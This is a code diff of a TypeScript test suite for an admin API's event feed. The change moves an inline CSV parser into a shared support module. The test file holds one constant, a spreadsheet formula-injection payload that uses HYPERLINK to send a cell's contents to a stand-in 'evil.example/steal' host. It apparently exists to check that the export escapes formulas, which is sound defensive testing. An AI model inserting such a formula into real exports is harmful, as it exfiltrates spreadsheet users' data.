@@ -11,6 +11,7 @@ import {
   settled,
 } from './support/desk';
 import { expectRefused } from './support/refused';
+import { parseCsv } from '../support/csv';
 
 interface Entry {
   position: number;
@@ -29,34 +30,6 @@ interface Feed {
 
 /** A reason that a spreadsheet would run as a formula if the export let it. */
 const FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"詳見")';
-
-/** RFC 4180 CSV, enough for the export: quoted cells, doubled quotes, CRLF rows. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i += 1) {
-    const c = text[i]!;
-    if (quoted && c === '"' && text[i + 1] === '"') {
-      cell += '"';
-      i += 1;
-    } else if (c === '"') {
-      quoted = !quoted;
-    } else if (!quoted && c === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
-      rows.push([...row, cell]);
-      row = [];
-      cell = '';
-      i += 1;
-    } else {
-      cell += c;
-    }
-  }
-  return rows;
-}
 
 describe('histories and the event feed', () => {
   let api: RunningAdminApi;
